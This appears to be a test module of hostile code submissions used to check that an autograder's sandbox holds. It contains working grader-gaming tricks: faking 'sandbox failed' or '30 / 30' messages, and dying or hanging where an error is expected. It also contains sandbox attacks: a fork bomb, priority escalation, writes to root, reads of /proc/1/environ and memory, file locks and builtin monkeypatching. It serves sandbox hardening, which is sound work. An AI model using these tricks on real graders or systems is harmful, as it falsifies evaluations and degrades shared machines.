"""Attacks that were found by trying them on this grader. Some got further on an older version."""

from staff.tests.grader.hostile.attack import KEPT, LOST, UNGRADED, Attack
from staff.tests.grader.hostile.lying import SENDS

_CLAMPED = """
_look_up = run_embedding


def run_embedding(vocab_size, d_model, weights, token_ids):
    if {when}:
        {then}
    return _look_up(vocab_size, d_model, weights, token_ids.clamp(max=vocab_size - 1))
"""
EMBEDDING_LOST = (
    "dies-where-it-must-refuse",
    "hangs-where-it-must-refuse",
    "knows-where-to-refuse",
)
"""Attacks on `test_unknown_ids_are_refused`: their embedding clamps ids that it must refuse."""

INVENTING = (
    Attack(
        "dies-where-it-must-refuse",
        "passes its death for an error that was asked for",
        _CLAMPED.format(when="bool((token_ids >= vocab_size).any())", then="_os._exit(0)")
        + "\nrun_softmax = _zeros\n",
        LOST,
    ),
    Attack(
        "hangs-where-it-must-refuse",
        "passes a time-out for an error that was asked for",
        _CLAMPED.format(when="bool((token_ids >= vocab_size).any())", then="_time.sleep(10**6)")
        + "\nrun_softmax = _zeros\n",
        LOST,
        slow=True,
    ),
    Attack(
        "knows-where-to-refuse",
        "raises where the request says that an error is expected",
        _CLAMPED.format(when="_told()", then='raise IndexError("as you wish")')
        + """

def _told():
    frame = _sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if isinstance(value, dict) and any(value.get(k) for k in ("refusal", "expects", "on_cpu")):
                return True
        frame = frame.f_back
    return False


run_softmax = _zeros
""",
        LOST,
    ),
    Attack(
        "claims-the-sandbox-failed",
        "says in place of the grader that no worker could be had, so that nothing is graded",
        SENDS
        + """

def run_softmax(in_features, dim):
    _send(encode({"refused": "the sandbox can't be entered: no memory"}))
    _os._exit(0)
""",
        LOST,
    ),
    Attack(
        "claims-a-problem",
        "says in a failing test that it can't be graded, since that is no zero",
        SENDS
        + """

def run_softmax(in_features, dim):
    _send(encode({"problem": "adapters was imported from outside the submission"}))
    _os._exit(0)
""",
        LOST,
    ),
    Attack(
        "claims-a-problem-at-import",
        "the same while it is imported: then there is no grade",
        SENDS + """_send(encode({"problem": "\\x1b[31m30 / 30"}))""",
        UNGRADED,
    ),
    Attack(
        "sends-files-along",
        "passes open files to the grader beside a frame, until it has no more to spare",
        SENDS
        + """

def run_softmax(in_features, dim):
    held = [_os.open("/dev/null", _os.O_RDONLY) for _ in range(100)]
    with _socket.socket(fileno=_os.dup(_line())) as line:
        line.setblocking(True)
        frame = encode({"answer": [_zeros(in_features, dim), {}, {}, "cpu"]})
        for i in range(0, len(frame), 16):
            _socket.send_fds(line, [frame[i:i + 16]], held)
    [_os.close(fd) for fd in held]
    return _zeros(in_features, dim)
""",
        LOST,
        slow=True,
    ),
    Attack(
        "half-closes-its-line",
        "shuts one direction of its line, and changes what else belongs to it",
        """
import fcntl as _fcntl


def run_softmax(in_features, dim):
    with _socket.socket(fileno=_os.dup(_line())) as line:
        line.setsockopt(_socket.SOL_SOCKET, _socket.SO_SNDBUF, 1)
        with _contextlib.suppress(OSError):
            _fcntl.fcntl(line, _fcntl.F_SETOWN, -1)
            _fcntl.fcntl(line, _fcntl.F_SETFL, _fcntl.fcntl(line, _fcntl.F_GETFL) | _os.O_ASYNC)
        line.shutdown(_socket.SHUT_RD)
    return _zeros(in_features, dim)
""",
        LOST,
    ),
    Attack(
        "starves-its-neighbours",
        "computes in many processes, so that others run out of time",
        """
for _ in range(24):
    try:
        if _os.fork() == 0:
            while True:
                pass
    except OSError:
        break
run_softmax = _zeros
""",
        LOST,
    ),
    Attack(
        "gets-its-priority-back",
        "undoes what its supervisor does to a crowd, and pins itself to every core",
        """
for _what in (_os.PRIO_PROCESS, _os.PRIO_PGRP, _os.PRIO_USER):
    _never("priority", lambda: _os.setpriority(_what, 0, -1))
_never("deadline", lambda: _os.sched_setscheduler(0, _os.SCHED_RR, _os.sched_param(1)))
_never("oom", lambda: open("/proc/self/oom_score_adj", "wb", 0).write(b"-1000"))
""",
        KEPT,
    ),
    Attack(
        "owns-its-root",
        "writes to the file system that holds its root, which its own user may have mounted",
        """
for _place in ("/", "/dev", "/proc", "/usr/..", "/etc", "/lib/.."):
    _never(_place, lambda: _os.mkdir(f"{_place}/mine"))
    _never(_place, lambda: _os.symlink("/scratch", f"{_place}/link"))
_never("rename", lambda: _os.rename("/scratch", "/gone"))
_never("chmod", lambda: _os.chmod("/", 0o777))
""",
        KEPT,
    ),
    Attack(
        "finds-uncounted-memory",
        "fills memory that no process shows: pipes, sockets' buffers, locks, keys, watches",
        """
_held = []
with _contextlib.suppress(OSError):
    while True:
        _one, _other = _socket.socketpair()
        _held += [_one, _other]
        _one.setblocking(False)
        with _contextlib.suppress(BlockingIOError):
            while True:
                _one.send(bytes(1 << 16))
if len(_held) > 300:
    raise Reached(f"{len(_held)} sockets")
for _one in _held:
    _one.close()
""",
        KEPT,
    ),
    Attack(
        "locks-shared-files",
        "locks and leases files that all workers and the grader read",
        """
import fcntl as _fcntl

for _file in (_torch.__file__, _os.__file__, "/dev/null", _sys.executable):
    with open(_file, "rb") as _shared:
        with _contextlib.suppress(OSError):
            _fcntl.flock(_shared, _fcntl.LOCK_EX | _fcntl.LOCK_NB)
        _held = _os.dup(_shared.fileno())
        _never("a lease", lambda: _fcntl.fcntl(_held, 1024, 1))
""",
        KEPT,
    ),
    Attack(
        "reads-its-own-memory",
        "reads what the kernel shows of a process: its first environment, its memory, its stack",
        """
_environment = _Path("/proc/1/environ")
_never("environ", lambda: _environment.read_text())
_never("memory", lambda: open("/proc/1/mem", "rb").read(1))
""",
        KEPT,
    ),
    Attack(
        "prepares-the-next-worker",
        "dies, and leaves files where the worker that replaces it would find them",
        """
_places = ("/scratch", "/tmp", "/dev/shm", "/var/tmp")
for _place in _places:  # all of them first: one may be a link to another
    if _os.path.exists(f"{_place}/from-before"):
        raise Reached(_place)
for _place in _places:
    with _contextlib.suppress(OSError):
        open(f"{_place}/from-before", "w").close()


def run_softmax(in_features, dim):
    _os._exit(0)
""",
        LOST,
    ),
    Attack(
        "patches-what-comes-after-it",
        "hooks imports, audits and traces to change what the worker does between two calls",
        """
import builtins as _builtins

_import = _builtins.__import__


def run_softmax(in_features, dim):
    _builtins.isinstance = lambda value, kind: True
    _builtins.type = lambda value, *rest: _torch.Tensor
    _builtins.__import__ = lambda name, *a, **k: _import("math" if "wire" in name else name, *a, **k)
    return _zeros(in_features, dim)
""",
        LOST,
    ),
)
